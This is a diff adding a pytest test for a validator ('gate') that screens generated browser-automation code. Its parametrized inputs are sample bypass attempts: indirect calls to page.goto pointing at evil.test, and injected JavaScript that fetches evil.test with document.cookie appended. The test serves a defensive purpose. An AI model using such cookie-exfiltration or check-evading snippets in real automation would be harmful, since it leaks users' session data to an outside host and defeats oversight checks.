@@ -231,6 +231,23 @@ def test_gate_refuses_dunder_access(statement):
     assert all(v.startswith("line 2:") for v in violations)
 
 
+@pytest.mark.parametrize(
+    "statement, why",
+    [
+        ('nav = page.goto\nnav(params["base_url"].replace("example.com", "evil.test"))', "goto may only be called directly"),
+        ('getattr(page, "goto")("https://evil.test/")', "getattr() of `goto`"),
+        ('list(map(page.goto, ["https://evil.test/"]))', "goto may only be called directly"),
+        ("page.wait_for_function(\"fetch('https:' + '//evil.test/?' + document.cookie)\")", "`.wait_for_function`"),
+        ("page.locator('body').evaluate_all(\"n => fetch('//evil.test/?' + n.length)\")", "`.evaluate_all`"),
+        ("page.pdf(path='/tmp/x.pdf')", "`.pdf`"),
+    ],
+)
+def test_gate_refuses_navigation_and_javascript_that_go_around_the_goto_checks(statement, why):
+    code = CONTACT.replace('    return {"confirmation"', "    " + statement.replace("\n", "\n    ") + '\n    return {"confirmation"')
+    violations = gate(code)
+    assert any(why in v for v in violations), violations
+
+
 def test_gate_allows_getattr_with_a_plain_literal_and_main_guard():
     code = with_run("return getattr(page, 'url')\n") + "\n\nif __name__ == '__main__':\n    pass\n"
     assert gate(code, original=None) == []
